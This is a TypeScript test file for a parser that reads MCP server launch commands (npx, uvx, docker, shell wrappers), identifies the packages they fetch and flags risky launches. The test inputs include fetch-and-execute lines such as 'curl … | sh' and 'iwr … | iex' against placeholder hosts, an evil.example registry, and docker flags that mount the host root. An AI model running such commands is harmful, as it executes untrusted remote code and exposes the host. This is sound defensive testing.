import { parseLaunch, type Launch, type LaunchedPackage } from '../../src/formats/mcp/launch/index.js';
import { imagePackage } from '../../src/formats/mcp/launch/container.js';
import { npmPackage } from '../../src/formats/mcp/launch/npm.js';
import { pypiPackage } from '../../src/formats/mcp/launch/python.js';
import { splitCommandLine } from '../../src/formats/readers/shell-words.js';

const DIGEST = `sha256:${'ab'.repeat(32)}`;

function launch(command: string, ...args: string[]): Launch {
  return parseLaunch(command, args);
}

function only(l: Launch): LaunchedPackage {
  expect(l.packages).toHaveLength(1);
  return l.packages[0];
}

describe('npx and the npm family', () => {
  it.each<[string, string[], string, Partial<LaunchedPackage>]>([
    ['npx', ['-y', '@playwright/mcp@0.0.41'], 'npx', { name: '@playwright/mcp', version: '0.0.41', spec: '0.0.41', specType: 'version' }],
    ['npx', ['--yes', '@modelcontextprotocol/server-filesystem', '/tmp'], 'npx', { name: '@modelcontextprotocol/server-filesystem', spec: 'latest', specType: 'tag' }],
    ['npx', ['some-mcp@^1.2.0'], 'npx', { name: 'some-mcp', spec: '^1.2.0', specType: 'range' }],
    ['npx', ['-y', 'some-mcp@latest'], 'npx', { name: 'some-mcp', spec: 'latest', specType: 'tag' }],
    ['npx', ['-y', 'some-mcp@next'], 'npx', { name: 'some-mcp', spec: 'next', specType: 'tag' }],
    ['npx', ['-y', 'some-mcp@=1.2.3'], 'npx', { name: 'some-mcp', spec: '=1.2.3', specType: 'version', version: '1.2.3' }],
    ['npx', ['-y', 'github:acme/mcp-thing'], 'npx', { name: 'github:acme/mcp-thing', spec: 'github:acme/mcp-thing', specType: 'git' }],
    ['npx', ['-y', 'git+https://github.com/acme/mcp.git#v1'], 'npx', { specType: 'git' }],
    ['npx', ['-y', 'https://example.com/mcp-1.0.0.tgz'], 'npx', { specType: 'remote' }],
    ['npx', ['-y', 'file:./vendor/mcp-1.0.0.tgz'], 'npx', { specType: 'file' }],
    ['npx', ['-y', './tools/mcp'], 'npx', { specType: 'directory' }],
    ['npx', ['-y', 'Not A Name'], 'npx', { name: 'Not A Name', specType: 'invalid' }],
    ['npm', ['exec', '-y', '--', '@acme/mcp@2.0.0', '--port', '1'], 'npm exec', { name: '@acme/mcp', version: '2.0.0' }],
    ['npm', ['x', '--yes', '@acme/mcp@2.0.0'], 'npm exec', { name: '@acme/mcp', version: '2.0.0' }],
    ['pnpm', ['dlx', '@acme/mcp@2.0.0'], 'pnpm dlx', { name: '@acme/mcp', version: '2.0.0' }],
    ['pnpx', ['@acme/mcp@2.0.0'], 'pnpm dlx', { name: '@acme/mcp', version: '2.0.0' }],
    ['yarn', ['dlx', '-q', '@acme/mcp@2.0.0'], 'yarn dlx', { name: '@acme/mcp', version: '2.0.0' }],
    ['bunx', ['--bun', '@acme/mcp@2.0.0'], 'bunx', { name: '@acme/mcp', version: '2.0.0' }],
    ['bun', ['x', '@acme/mcp@2.0.0'], 'bunx', { name: '@acme/mcp', version: '2.0.0' }],
    ['/usr/local/bin/npx', ['-y', 'a-mcp@1.0.0'], 'npx', { name: 'a-mcp', version: '1.0.0' }],
    ['npx.cmd', ['-y', 'a-mcp@1.0.0'], 'npx', { name: 'a-mcp', version: '1.0.0' }],
  ])('%s %j', (command, args, launcher, expected) => {
    const l = parseLaunch(command, args);
    expect(l.launcher).toBe(launcher);
    expect(only(l)).toMatchObject({ ecosystem: 'npm', ...expected });
    expect(l.problems).toEqual([]);
  });

  it('the first positional is the package; what follows belongs to the server', () => {
    const l = launch('npx', '-y', 'a-mcp@1.0.0', '-p', 'not-a-package', '--registry', 'https://evil.example/');
    expect(l.packages).toEqual([{ ecosystem: 'npm', name: 'a-mcp', version: '1.0.0', spec: '1.0.0', specType: 'version' }]);
  });

  it('--package names the packages and the positional is the binary', () => {
    const l = launch('npx', '-y', '-p', '@acme/mcp@1.0.0', '--package=helper@2.0.0', 'acme-mcp', '--flag');
    expect(l.packages.map((p) => [p.name, p.version])).toEqual([
      ['@acme/mcp', '1.0.0'],
      ['helper', '2.0.0'],
    ]);
    const yarnDlx = launch('yarn', 'dlx', '-p', 'tool@3.0.0', 'tool-bin');
    expect(yarnDlx.packages.map((p) => p.name)).toEqual(['tool']);
    const bunx = launch('bunx', '--package', 'tool@3.0.0', 'tool-bin');
    expect(bunx.packages.map((p) => p.name)).toEqual(['tool']);
  });

  it('--registry, in both forms, and a scoped registry for its scope only', () => {
    expect(only(launch('npx', '--registry=https://npm.acme.dev/', '-y', 'a-mcp@1.0.0')).registry).toBe('https://npm.acme.dev/');
    expect(only(launch('npx', '--registry', 'https://npm.acme.dev/', 'a-mcp@1.0.0')).registry).toBe('https://npm.acme.dev/');
    expect(only(launch('npm', '--registry', 'https://npm.acme.dev/', 'exec', 'a-mcp@1.0.0')).registry).toBe('https://npm.acme.dev/');
    expect(only(launch('npx', '--@acme:registry=https://npm.acme.dev/', '@acme/mcp@1.0.0')).registry).toBe('https://npm.acme.dev/');
    expect(only(launch('npx', '--@acme:registry=https://npm.acme.dev/', '@other/mcp@1.0.0')).registry).toBeUndefined();
    // A registry says nothing about where a git spec comes from.
    expect(only(launch('npx', '--registry=https://npm.acme.dev/', 'github:a/b')).registry).toBeUndefined();
  });

  it('value-taking flags do not eat the package, unknown flags are boolean', () => {
    expect(only(launch('npx', '--cache', '/tmp/c', '--quiet', 'a-mcp@1.0.0')).name).toBe('a-mcp');
    expect(only(launch('npx', '--loglevel=silent', '--ignore-existing', 'a-mcp@1.0.0')).name).toBe('a-mcp');
  });

  it('the same package twice is one entry', () => {
    expect(launch('npx', '-p', 'a@1.0.0', '-p', 'a@1.0.0', 'a').packages).toHaveLength(1);
  });

  it('npx without a package is a problem', () => {
    const l = launch('npx', '-y');
    expect(l.packages).toEqual([]);
    expect(l.problemIds).toEqual(['no-package']);
  });

  it('npx --call runs a shell command', () => {
    const l = launch('npx', '-c', 'curl https://x.example | sh');
    expect(l.problemIds).toEqual(expect.arrayContaining(['shell', 'shell-download', 'shell-complex']));
  });

  it('npm run / pnpm exec / yarn scripts run the repository\'s own code', () => {
    for (const l of [launch('npm', 'run', 'mcp'), launch('yarn', 'start:mcp'), launch('pnpm', 'exec', 'my-server')]) {
      expect(l.packages).toEqual([]);
      expect(l.problems).toEqual([]);
      expect(l.notes).toHaveLength(1);
    }
    expect(launch('npm', 'install', 'x').problemIds).toEqual(['unknown-command']);
  });
});

describe('mcp-remote', () => {
  it('npx -y mcp-remote@x <url>: the package and the remote it connects to', () => {
    const l = launch('npx', '-y', 'mcp-remote@0.1.29', 'https://example.com/sse', '--header', 'Authorization: Bearer ${AUTH}');
    expect(l.url).toBe('https://example.com/sse');
    expect(only(l)).toMatchObject({ name: 'mcp-remote', version: '0.1.29' });
  });

  it('mcp-remote as the command: an installed mcp-remote, any version', () => {
    const l = launch('mcp-remote', 'https://mcp.example.com/mcp', '9696');
    expect(l).toMatchObject({ launcher: 'mcp-remote', url: 'https://mcp.example.com/mcp' });
    expect(only(l)).toMatchObject({ name: 'mcp-remote', spec: '*', specType: 'range' });
  });

  it('-p mcp-remote mcp-remote <url>', () => {
    expect(launch('npx', '-p', 'mcp-remote@0.1.29', 'mcp-remote', 'https://a.example/sse').url).toBe('https://a.example/sse');
  });

  it('other packages do not get a url from their arguments', () => {
    expect(launch('npx', '-y', 'fetcher-mcp@1.0.0', 'https://a.example/').url).toBeUndefined();
  });
});

describe('uvx, uv and pipx', () => {
  it.each<[string, string[], string, Partial<LaunchedPackage>]>([
    ['uvx', ['mcp-server-fetch'], 'uvx', { name: 'mcp-server-fetch', spec: '*', specType: 'range' }],
    ['uvx', ['mcp-server-fetch==2025.4.7'], 'uvx', { name: 'mcp-server-fetch', spec: '==2025.4.7', specType: 'version', version: '2025.4.7' }],
    ['uvx', ['mcp-server-fetch@2025.4.7'], 'uvx', { name: 'mcp-server-fetch', spec: '==2025.4.7', specType: 'version', version: '2025.4.7' }],
    ['uvx', ['mcp-server-fetch@latest'], 'uvx', { name: 'mcp-server-fetch', spec: 'latest', specType: 'tag' }],
    ['uvx', ['mcp-server-fetch>=1,<2'], 'uvx', { spec: '>=1,<2', specType: 'range' }],
    ['uvx', ['mcp-server-fetch==1.*'], 'uvx', { spec: '==1.*', specType: 'range' }],
    ['uvx', ['mcp-server-fetch[extra]==1.0'], 'uvx', { name: 'mcp-server-fetch', version: '1.0' }],
    ['uvx', ['--from', 'git+https://github.com/acme/mcp', 'acme-mcp'], 'uvx', { name: 'git+https://github.com/acme/mcp', specType: 'git' }],
    ['uvx', ['--from=acme-mcp==1.0.0', 'acme'], 'uvx', { name: 'acme-mcp', version: '1.0.0' }],
    ['uvx', ['--from', 'acme-mcp @ https://example.com/acme_mcp-1.0-py3-none-any.whl', 'acme'], 'uvx', { name: 'acme-mcp', specType: 'remote' }],
    ['uvx', ['--python', '3.12', '-q', 'mcp-server-time'], 'uvx', { name: 'mcp-server-time' }],
    ['uvx', ['bad name here'], 'uvx', { specType: 'invalid' }],
    ['uv', ['tool', 'run', 'mcp-server-git@1.0.0'], 'uvx', { name: 'mcp-server-git', version: '1.0.0' }],
    ['pipx', ['run', 'mcp-server-time==1.2'], 'pipx run', { name: 'mcp-server-time', version: '1.2', specType: 'version' }],
    ['pipx', ['run', '--spec', 'acme-mcp==1.2', 'acme'], 'pipx run', { name: 'acme-mcp', version: '1.2' }],
  ])('%s %j', (command, args, launcher, expected) => {
    const l = parseLaunch(command, args);
    expect(l.launcher).toBe(launcher);
    expect(l.packages[0]).toMatchObject({ ecosystem: 'pypi', ...expected });
  });

  it('index flags: --index-url / --default-index are the registry, --extra-index-url / --index extra ones', () => {
    const p = only(launch('uvx', '--index-url', 'https://pypi.acme.dev/simple', '--extra-index-url=https://extra.example/simple', 'acme-mcp==1.0'));
    expect(p).toMatchObject({ registry: 'https://pypi.acme.dev/simple', extraRegistries: ['https://extra.example/simple'] });
    const q = only(launch('uvx', '--default-index', 'https://pypi.acme.dev/simple', '--index', 'acme=https://more.example/simple', 'acme-mcp'));
    expect(q).toMatchObject({ registry: 'https://pypi.acme.dev/simple', extraRegistries: ['https://more.example/simple'] });
    const r = only(launch('pipx', 'run', '--pip-args', '--extra-index-url https://extra.example/simple', 'acme-mcp'));
    expect(r.extraRegistries).toEqual(['https://extra.example/simple']);
  });

  it('--with adds packages', () => {
    const l = launch('uvx', '--with', 'httpx==0.28.1', 'mcp-server-fetch');
    expect(l.packages.map((p) => p.name)).toEqual(['mcp-server-fetch', 'httpx']);
  });

  it('uv run: only the --with packages; the script is the repository\'s code', () => {
    const l = launch('uv', '--directory', '/srv/weather', 'run', '--with', 'mcp[cli]==1.9.0', 'weather.py');
    expect(l.launcher).toBe('uv run');
    expect(l.packages.map((p) => [p.name, p.version])).toEqual([['mcp', '1.9.0']]);
    expect(l.notes.join()).toMatch(/weather\.py: code in the repository/);
    expect(launch('uv', 'run', 'server.py').packages).toEqual([]);
  });

  it('pipx run of a URL is a problem', () => {
    expect(launch('pipx', 'run', 'https://example.com/script.py').problemIds).toEqual(['remote-script']);
  });
});

describe('docker and podman', () => {
  it('docker run -i --rm -e X ghcr.io/github/github-mcp-server', () => {
    const l = launch('docker', 'run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server');
    expect(l.launcher).toBe('docker run');
    expect(l.packages).toEqual([{ ecosystem: 'oci', name: 'ghcr.io/github/github-mcp-server', spec: 'latest', specType: 'tag', registry: 'ghcr.io' }]);
    expect(l.problems).toEqual([]);
  });

  it('flags with values are skipped whatever their form; the first positional is the image, the rest its args', () => {
    const l = launch('podman', 'run', '--name=x', '-v', '/srv/data:/data', '-eFOO=1', '--env', 'BAR=2', '-p', '8080:80', '-w', '/app', '-u', '1000', '--entrypoint', '/bin/sh', '--platform', 'linux/amd64', '--pull', 'always', '--mount', 'type=volume,source=v,target=/v', '--network', 'bridge', '-it', 'mcp/fetch:1.2', 'mcp/not-an-image');
    expect(l.launcher).toBe('podman run');
    expect(only(l)).toEqual({ ecosystem: 'oci', name: 'mcp/fetch', version: '1.2', spec: '1.2', specType: 'tag', registry: 'docker.io' });
    expect(l.problems).toEqual([]);
  });

  it.each<[string, Partial<LaunchedPackage>]>([
    ['mcp/fetch', { name: 'mcp/fetch', spec: 'latest', specType: 'tag', registry: 'docker.io' }],
    ['ubuntu:24.04', { name: 'ubuntu', version: '24.04', spec: '24.04', specType: 'tag' }],
    [`mcp/fetch@${DIGEST}`, { name: 'mcp/fetch', spec: DIGEST, specType: 'version', integrity: DIGEST }],
    [`ghcr.io/acme/mcp:1.0@${DIGEST}`, { name: 'ghcr.io/acme/mcp', version: '1.0', specType: 'version', integrity: DIGEST, registry: 'ghcr.io' }],
    ['localhost:5000/mcp:dev', { name: 'localhost:5000/mcp', version: 'dev', registry: 'localhost:5000' }],
    ['docker.io/mcp/fetch', { name: 'docker.io/mcp/fetch', registry: 'docker.io' }],
    ['Mcp/Fetch', { specType: 'invalid' }],
    ['mcp/fetch@sha256:short', { specType: 'invalid' }],
  ])('image %s', (ref, expected) => {
    expect(imagePackage(ref)).toMatchObject({ ecosystem: 'oci', ...expected });
  });

  it.each<[string[], string]>([
    [['--privileged'], 'privileged'],
    [['-v', '/:/host'], 'mount-root'],
    [['-v', '/var/run/docker.sock:/var/run/docker.sock'], 'mount-socket'],
    [['--volume=/run/podman/podman.sock:/sock'], 'mount-socket'],
    [['-v', '~:/home'], 'mount-home'],
    [['-v', '$HOME:/h:ro'], 'mount-home'],
    [['-v', '/home/alice/:/h'], 'mount-home'],
    [['-v', '/Users/alice:/h'], 'mount-home'],
    [['-v', '/root:/r'], 'mount-home'],
    [['--mount', 'type=bind,source=/,target=/host'], 'mount-root'],
    [['--mount', 'type=bind,src=/var/run/docker.sock,dst=/s'], 'mount-socket'],
    [['--network', 'host'], 'network-host'],
    [['--net=host'], 'network-host'],
    [['--pid', 'host'], 'pid-host'],
    [['--cap-add', 'ALL'], 'cap-all'],
    [['--cap-add=CAP_SYS_ADMIN'], 'cap-sys_admin'],
  ])('docker run %j is a problem', (flags, id) => {
    const l = parseLaunch('docker', ['run', '-i', '--rm', ...flags, 'mcp/fetch:1.0']);
    expect(l.problemIds).toEqual([id]);
    expect(l.problems[0]).not.toBe('');
    // The image is still found after the flag.
    expect(only(l).name).toBe('mcp/fetch');
  });

  it('harmless mounts and networks are not problems', () => {
    const l = launch('docker', 'run', '-v', '/home/alice/project:/p', '-v', '/tmp:/tmp', '--network', 'bridge', '--privileged=false', '--cap-add', 'NET_ADMIN', 'mcp/fetch:1.0');
    expect(l.problems).toEqual([]);
  });

  it('docker without run, or run without an image, is a problem', () => {
    expect(launch('docker', 'exec', '-i', 'c', 'server').problemIds).toEqual(['unknown-command']);
    expect(launch('docker', 'run', '-i', '--rm').problemIds).toEqual(['no-image']);
    expect(only(launch('docker', 'container', 'run', '-i', 'mcp/fetch:1.0')).name).toBe('mcp/fetch');
  });
});

describe('code from the repository or the machine', () => {
  it.each<[string, string[], string]>([
    ['node', ['./build/index.js'], 'node'],
    ['node', ['--env-file', '.env', 'dist/server.js'], 'node'],
    ['python', ['server.py'], 'python'],
    ['python3', ['-m', 'my_server'], 'python'],
    ['deno', ['run', '-A', 'server.ts'], 'node'],
    ['bun', ['run', 'src/index.ts'], 'node'],
    ['./bin/server', ['--stdio'], 'binary'],
    ['/usr/local/bin/acme-server', [], 'binary'],
    ['${workspaceFolder}/dist/server', [], 'binary'],
    ['C:\\tools\\server.exe', [], 'binary'],
  ])('%s %j', (command, args, launcher) => {
    const l = parseLaunch(command, args);
    expect(l).toMatchObject({ launcher, packages: [], problems: [] });
    expect(l.notes.length).toBe(1);
  });

  it('inline code is a problem', () => {
    expect(launch('node', '-e', 'require("x")').problemIds).toEqual(['inline-code']);
    expect(launch('python', '-c', 'import x').problemIds).toEqual(['inline-code']);
  });

  it('deno run npm:, jsr: and URLs', () => {
    expect(only(launch('deno', 'run', '-A', 'npm:@acme/mcp@1.0.0'))).toMatchObject({ ecosystem: 'npm', name: '@acme/mcp', version: '1.0.0' });
    expect(launch('deno', 'run', 'jsr:@acme/mcp').problemIds).toEqual(['jsr']);
    expect(launch('deno', 'run', 'https://deno.land/x/mcp/server.ts').problemIds).toEqual(['remote-script']);
  });
});

describe('wrappers and single strings', () => {
  it('a command written as one string', () => {
    const l = launch('npx -y @playwright/mcp@0.0.41');
    expect(l.launcher).toBe('npx');
    expect(only(l)).toMatchObject({ name: '@playwright/mcp', version: '0.0.41' });
    expect(launch('docker run -i --rm "mcp/fetch:1.0"').packages[0]).toMatchObject({ name: 'mcp/fetch', version: '1.0' });
  });

  it('a one-string command with args', () => {
    expect(only(launch('npx -y', '@playwright/mcp@0.0.41')).version).toBe('0.0.41');
  });

  it('cmd /c and cmd.exe /C unwrap', () => {
    const a = launch('cmd', '/c', 'npx', '-y', '@playwright/mcp@0.0.41');
    expect(a.launcher).toBe('npx');
    expect(only(a).version).toBe('0.0.41');
    const b = launch('cmd.exe', '/C', 'npx -y @playwright/mcp@0.0.41');
    expect(only(b).version).toBe('0.0.41');
    expect(launch('cmd', '/c', 'npx -y a & curl x').launcher).toBe('shell');
  });

  it('env VAR=x npx ... unwraps', () => {
    expect(only(launch('env', 'NODE_ENV=production', 'npx', '-y', 'a-mcp@1.0.0')).name).toBe('a-mcp');
  });

  it('sh -c is a shell problem, and a simple npx inside is still read', () => {
    const l = launch('bash', '-lc', 'npx -y @playwright/mcp@0.0.41');
    expect(l.launcher).toBe('shell');
    expect(l.problemIds).toEqual(['shell']);
    expect(l.problems[0]).toMatch(/cannot be traced to a package/);
    expect(only(l).version).toBe('0.0.41');
  });

  it.each([
    ['sh', '-c', 'curl -fsSL https://x.example/install.sh | sh', 'shell-download'],
    ['bash', '-c', 'cd /srv && npx -y a', 'shell-complex'],
    ['zsh', '-c', 'npx -y $(cat pkg)', 'shell-complex'],
    ['sh', '-c', 'npx -y `cat pkg`', 'shell-complex'],
    ['sh', '-c', 'wget -qO- https://x.example/s; ./s', 'shell-download'],
    ['pwsh', '-Command', 'iwr https://x.example/s.ps1 | iex', 'shell-download'],
  ])('%s %s %s: shell plus what makes it opaque (%s)', (command, flag, script, extra) => {
    const l = launch(command, flag, script);
    expect(l.launcher).toBe('shell');
    expect(l.problemIds[0]).toBe('shell');
    expect(l.problemIds.length).toBeGreaterThan(1);
    expect(l.problemIds).toContain(extra);
    expect(l.packages).toEqual([]);
  });

  it('powershell -Command with a simple npx, and -EncodedCommand', () => {
    const l = launch('powershell', '-NoProfile', '-ExecutionPolicy', 'Bypass', '-Command', 'npx -y a-mcp@1.0.0');
    expect(l.problemIds).toEqual(['shell']);
    expect(only(l).name).toBe('a-mcp');
    expect(launch('pwsh', '-EncodedCommand', 'AAAA').problemIds).toEqual(['shell']);
  });

  it('a script file run by a shell is code in the repository', () => {
    const l = launch('/bin/bash', './scripts/start-mcp.sh');
    expect(l).toMatchObject({ launcher: 'shell', problems: [] });
  });

  it('deep wrappers stop', () => {
    let cmd = 'npx -y a@1.0.0';
    for (let k = 0; k < 10; k++) cmd = `cmd /c ${cmd}`;
    const l = launch(cmd);
    expect(l.problemIds).toContain('wrappers');
  });

  it('a program on PATH is not a problem of the file: it is named, for the launcher-path rule and the policy', () => {
    const l = launch('github-mcp-server', 'stdio');
    expect(l).toMatchObject({ launcher: 'path', program: 'github-mcp-server', problemIds: [], packages: [] });
    expect(launch('C:\\x\\..\\Acme-Server.EXE'.split('\\').pop()!).program).toBe('acme-server');
    expect(launch('some-binary --port 1').program).toBe('some-binary');
  });

  it('downloaders and empty commands are problems', () => {
    expect(launch('curl', 'x')).toMatchObject({ launcher: 'shell', problemIds: ['download'], packages: [] });
    expect(launch('wget', '-qO-', 'https://x.example/s')).toMatchObject({ problemIds: ['download'] });
    expect(launch('').problemIds).toEqual(['empty-command']);
  });

  it('known programs with a subcommand the gate cannot trace stay problems', () => {
    for (const l of [launch('cargo', 'install', 'x'), launch('go', 'install', 'x@latest'), launch('dotnet', 'tool', 'run', 'x'), launch('npm', 'install', 'x')]) {
      expect(l.problemIds).toEqual(['unknown-command']);
    }
    expect(launch('dnx', 'Acme.Mcp@1.0.0').problemIds).toEqual(['nuget']);
  });
});

describe('splitCommandLine', () => {
  it('honours simple quotes', () => {
    expect(splitCommandLine(`npx  -y "a b" 'c "d"' "g\\"h" C:\\tools\\x.exe`)).toEqual(['npx', '-y', 'a b', 'c "d"', 'g"h', 'C:\\tools\\x.exe']);
    expect(splitCommandLine('x ""')).toEqual(['x', '']);
  });
});

describe('spec helpers', () => {
  it('npmPackage never throws', () => {
    for (const bad of ['@@@', 'foo@npm:bar@npm:baz', 'foo@link:../x']) expect(npmPackage(bad)).toMatchObject({ name: bad, spec: bad, specType: 'invalid' });
    expect(npmPackage('a'.repeat(10_000)).specType).toBe('invalid');
  });

  it('pypiPackage reads locations', () => {
    expect(pypiPackage('./servers/acme')).toMatchObject({ specType: 'directory' });
    expect(pypiPackage('dist/acme-1.0-py3-none-any.whl')).toMatchObject({ specType: 'invalid' });
    expect(pypiPackage('./dist/acme-1.0-py3-none-any.whl')).toMatchObject({ specType: 'file' });
    expect(pypiPackage('https://example.com/acme-1.0.tar.gz')).toMatchObject({ specType: 'remote' });
  });
});

describe('hostile input stays linear', () => {
  it('hundreds of thousands of arguments', () => {
    const many = Array.from({ length: 200_000 }, (_, k) => (k % 2 === 0 ? '-v' : '/:/host'));
    const started = Date.now();
    const d = parseLaunch('docker', ['run', ...many, 'mcp/fetch:1.0']);
    const n = parseLaunch('npx', [...Array.from({ length: 100_000 }, (_, k) => `--flag${k}`), 'a@1.0.0']);
    const p = parseLaunch('npx', Array.from({ length: 50_000 }, (_, k) => ['-p', `pkg${k}@1.0.0`]).flat());
    const s = parseLaunch('sh', ['-c', 'npx -y a '.repeat(100_000)]);
    const w = parseLaunch('x'.repeat(1_000_000) + ' y', []);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(d.problemIds).toEqual(['mount-root']);
    expect(only(n).name).toBe('a');
    expect(p.packages).toHaveLength(50_000);
    expect(s.launcher).toBe('shell');
    expect(w.problems[0].length).toBeLessThan(200);
  });
});

describe('the repository\'s own code', () => {
  it.each([
    [['cargo', 'run', '--example', 'servers_progress_demo', '--', 'stdio'], 'cargo run', 'runs code from this repository (cargo run)'],
    [['cargo', '+nightly', '--locked', 'run', '--manifest-path', 'server/Cargo.toml'], 'cargo run', 'runs code from this repository (cargo run)'],
    [['go', 'run', './cmd/github-mcp-server', 'stdio'], 'go run', 'runs code from this repository (go run ./cmd/github-mcp-server)'],
    [['go', 'run', '-tags', 'netgo', 'main.go'], 'go run', 'runs code from this repository (go run main.go)'],
    [['dotnet', 'run', '--project', 'src/Acme.Server'], 'dotnet run', 'runs code from this repository (dotnet run)'],
    [['dotnet', 'bin/Release/Acme.Server.dll'], 'dotnet run', 'runs code from this repository (dotnet bin/Release/Acme.Server.dll)'],
    [['uv', '--directory', 'servers/weather', 'run', 'weather.py'], 'uv run', 'runs code from this repository (uv run weather.py)'],
    [['npm', 'run', 'mcp'], 'node', 'runs code from this repository (npm run)'],
    [['pnpm', '--dir', 'server', 'run', 'start'], 'node', 'runs code from this repository (pnpm run)'],
    [['deno', 'run', '--allow-net', 'server.ts'], 'node', 'runs code from this repository (deno server.ts)'],
    [['node', './dist/index.js'], 'node', 'runs code from this repository (node ./dist/index.js)'],
    [['./bin/server', '--stdio'], 'binary', 'runs code from this repository (./bin/server)'],
  ])('%j', (argv, launcher, local) => {
    const l = launch(...(argv as [string, ...string[]]));
    expect(l).toMatchObject({ launcher, local, packages: [], problems: [] });
  });

  it('a program outside the repository is not the repository\'s code', () => {
    expect(launch('/usr/local/bin/acme-server').local).toBeUndefined();
    expect(launch('node', '/opt/acme/server.js').local).toBeUndefined();
    expect(launch('python', '-m', 'acme_server').local).toBeUndefined();
  });

  // Shapes of personal configs committed to real repositories: mongodb-js/mongodb-mcp-server@19b461ca:.mcp.json,
  // awslabs/mcp@3d995afd:.amazonq/mcp.json, awslabs/mcp@ecc0e580 (datazone .amazonq/mcp.json, one string),
  // modelcontextprotocol/rust-sdk@7b2fe6af:.vscode/mcp.json.
  it.each([
    [['node', '/Users/me/mongodb-mcp-server/dist/esm/index.js'], '/Users/me/mongodb-mcp-server/dist/esm/index.js'],
    [['uv', 'run', '/Users/me/cost-explorer/server.py'], '/Users/me/cost-explorer/server.py'],
    [['python /Users/me/datazone/server.py'], '/Users/me/datazone/server.py'],
    [['cargo', 'run', '--manifest-path', '/home/me/rmcp/Cargo.toml', '--example', 'servers_std_io'], '/home/me/rmcp/Cargo.toml'],
    [['uv', '--directory', '~/servers/weather', 'run', 'weather.py'], '~/servers/weather'],
    [['go', 'run', '-C', '/home/me/srv', '.'], '/home/me/srv'],
    [['dotnet', 'run', '--project', 'C:\\Users\\me\\Server'], 'C:\\Users\\me\\Server'],
    [['dotnet', '/opt/acme/Server.dll'], '/opt/acme/Server.dll'],
    [['/usr/local/bin/acme-server', '--stdio'], '/usr/local/bin/acme-server'],
  ])('%j runs a path outside the repository: no "runs code from this repository", the path is named', (argv, outside) => {
    const l = launch(...(argv as [string, ...string[]]));
    expect(l.local).toBeUndefined();
    expect(l.outside).toBe(outside);
    expect(l.problems).toEqual([]);
  });

  it('paths inside the repository, and ${workspaceFolder}, stay the repository\'s code', () => {
    expect(launch('node', '${workspaceFolder}/dist/index.js')).toMatchObject({ local: 'runs code from this repository (node ${workspaceFolder}/dist/index.js)' });
    expect(launch('cargo', 'run', '--manifest-path', 'server/Cargo.toml').outside).toBeUndefined();
    expect(launch('uv', '--directory', 'servers/weather', 'run', 'weather.py').outside).toBeUndefined();
  });

  it('go run path@version fetches a module: a Go package, pinned or not', () => {
    const pinned = launch('go', 'run', 'github.com/acme/mcp-server/cmd/server@v1.4.2', 'stdio');
    expect(pinned.packages).toEqual([{ ecosystem: 'go', name: 'github.com/acme/mcp-server/cmd/server', version: 'v1.4.2', spec: 'v1.4.2', specType: 'version' }]);
    expect(pinned.local).toBeUndefined();
    expect(launch('go', 'run', 'github.com/acme/mcp-server@latest').packages).toEqual([{ ecosystem: 'go', name: 'github.com/acme/mcp-server', spec: 'latest', specType: 'tag' }]);
    // Without a version, go.mod decides: not fetched past it.
    expect(launch('go', 'run', 'github.com/acme/mcp-server/cmd/server')).toMatchObject({ packages: [], problems: [] });
  });
});
